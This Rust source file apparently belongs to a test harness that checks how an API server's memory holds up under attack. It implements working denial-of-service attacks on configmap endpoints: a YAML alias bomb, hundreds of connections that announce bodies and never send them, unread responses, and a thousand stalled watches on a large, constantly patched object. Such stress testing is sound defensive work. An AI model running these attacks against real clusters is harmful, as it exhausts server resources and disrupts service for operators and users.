//! The attacks. Each uses as many connections as the server's limits allow for one to three users.

use anyhow::Result;
use bytes::Bytes;
use futures_util::future::join_all;
use http::{Method, Request};
use serde_json::json;
use tokio::task::JoinSet;

use super::Site;
use crate::client::{Connection, Connector, Outgoing};
use crate::objects::{get, post};

const CONFIG_MAPS: &str = "/api/v1/namespaces/default/configmaps";

/// Users without permissions, and users who may write objects of a namespace.
const OUTSIDERS: &[&str] = &["mallory", "oscar", "trudy"];
const INSIDERS: &[&str] = &["editor-1", "editor-2", "editor-3"];

/// Connections per user: 630 in all, more than the server has seats (API Priority and Fairness).
const CONNECTIONS_PER_USER: usize = 210;

/// Connections that send YAML with aliases.
const ALIAS_CONNECTIONS: usize = 64;

/// A watch and its connection cost the server about 60 KiB before the first event.
const WATCHES: usize = 1000;

/// An attack, and the memory that it may cost the server.
pub(super) struct Attack {
    pub(super) name: &'static str,
    users: &'static [&'static str],
    act: Act,
    pub(super) max_growth_mib: u64,
}

enum Act {
    /// Repeatedly sends YAML with one large scalar and 200 000 aliases.
    Aliases,
    /// Announces a body and never sends it.
    UnfinishedBodies,
    /// Requests the OpenAPI document and does not read the response.
    UnreadResponses,
    /// Watches changing objects of 1 MB and does not read the events.
    StalledWatches,
}

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "YAML aliases, no permission",
        users: &["mallory"],
        act: Act::Aliases,
        max_growth_mib: 100,
    },
    Attack { name: "YAML aliases", users: &["editor-1"], act: Act::Aliases, max_growth_mib: 100 },
    Attack {
        name: "630 unfinished bodies, no permission",
        users: OUTSIDERS,
        act: Act::UnfinishedBodies,
        max_growth_mib: 100,
    },
    Attack {
        name: "630 unfinished bodies",
        users: INSIDERS,
        act: Act::UnfinishedBodies,
        max_growth_mib: 100,
    },
    Attack { name: "630 unread responses", users: OUTSIDERS, act: Act::UnreadResponses, max_growth_mib: 200 },
    Attack {
        name: "1 000 stalled watches of 1 MB",
        users: &["editor-1"],
        act: Act::StalledWatches,
        max_growth_mib: 200,
    },
];

/// A running attack.
pub(super) struct Attackers {
    tasks: JoinSet<()>,
    /// Idle connections that must stay open.
    held: Vec<Connection>,
}

impl Attackers {
    pub(super) async fn end(mut self) {
        self.tasks.shutdown().await;
        drop(self.held);
    }
}

impl Attack {
    /// Starts the attack; returns when all of its connections are open.
    pub(super) async fn begin(&self, site: &Site) -> Result<Attackers> {
        let mut attackers = Attackers { tasks: JoinSet::new(), held: Vec::new() };
        for user in self.users {
            let connector = site.connector(user)?;
            match self.act {
                Act::Aliases => send_aliases(connector, &mut attackers.tasks).await?,
                Act::UnfinishedBodies => attackers.held.extend(hold_bodies(&connector).await?),
                Act::UnreadResponses => attackers
                    .held
                    .extend(hold(&connector, CONNECTIONS_PER_USER, || get("/openapi/v2")).await?),
                Act::StalledWatches => {
                    let watch = || get(&format!("{CONFIG_MAPS}?watch=true"));
                    attackers.held.extend(hold(&connector, WATCHES, watch).await?);
                    change_large_objects(connector, &mut attackers.tasks).await?;
                }
            }
        }
        Ok(attackers)
    }
}

async fn connect(connector: &Connector, count: usize) -> Result<Vec<Connection>> {
    let mut connections = Vec::with_capacity(count);
    // As many concurrent handshakes as there are cores, and some more in the queue.
    for _ in 0..count.div_ceil(16) {
        let some = (0..16.min(count - connections.len())).map(|_| connector.connect());
        for connection in join_all(some).await {
            connections.push(connection?);
        }
    }
    Ok(connections)
}

/// Sends a request on each of `count` connections and never reads the responses.
async fn hold(
    connector: &Connector,
    count: usize,
    request: impl Fn() -> Outgoing,
) -> Result<Vec<Connection>> {
    let mut held = connect(connector, count).await?;
    for connection in &mut held {
        connection.send(&request()).await?;
    }
    Ok(held)
}

async fn hold_bodies(connector: &Connector) -> Result<Vec<Connection>> {
    let mut held = connect(connector, CONNECTIONS_PER_USER).await?;
    for connection in &mut held {
        connection.send_announcing(&post(CONFIG_MAPS, "{".to_owned()), 3 << 20).await?;
    }
    Ok(held)
}

async fn send_aliases(connector: Connector, tasks: &mut JoinSet<()>) -> Result<()> {
    let body = Bytes::from(aliases());
    let request = move || {
        Request::builder()
            .method(Method::POST)
            .uri(CONFIG_MAPS)
            .header("content-type", "application/yaml")
            .body(body.clone())
            .expect("the parts of a request are valid")
    };
    let connector = std::sync::Arc::new(connector);
    for _ in 0..ALIAS_CONNECTIONS {
        let (connector, request) = (connector.clone(), request.clone());
        tasks.spawn(async move {
            // The server rejects each request and may close the connection; the next one follows immediately.
            loop {
                if let Ok(mut connection) = connector.connect().await {
                    while connection.count(request()).await.is_ok() {}
                }
            }
        });
    }
    Ok(())
}

/// 1.6 MB of YAML: a scalar of 1 MB with an anchor, and 200 000 aliases of it.
fn aliases() -> String {
    let mut text = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\ndata:\n  a: &a ".to_owned();
    text += &"x".repeat(1_000_000);
    text += "\nitems: [*a";
    text += &",*a".repeat(200_000);
    text + "]\n"
}

/// Creates an object of 1 MB and changes it until the attack ends.
async fn change_large_objects(connector: Connector, tasks: &mut JoinSet<()>) -> Result<()> {
    let mut connection = connector.connect().await?;
    let object = json!({"metadata": {"name": "large"}, "data": {"large": "x".repeat(1_000_000)}});
    connection.fetch(post(CONFIG_MAPS, object.to_string())).await?;
    tasks.spawn(async move {
        let mut number: u64 = 0;
        loop {
            number += 1;
            let patch = json!({"data": {"small": number.to_string()}}).to_string();
            let request = Request::builder()
                .method(Method::PATCH)
                .uri(format!("{CONFIG_MAPS}/large"))
                .header("content-type", "application/merge-patch+json")
                .body(Bytes::from(patch))
                .expect("the parts of a request are valid");
            if connection.count(request).await.is_err() {
                // For example 429, because the user has too many unread responses.
                match connector.connect().await {
                    Ok(another) => connection = another,
                    Err(_) => return,
                }
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
    });
    Ok(())
}
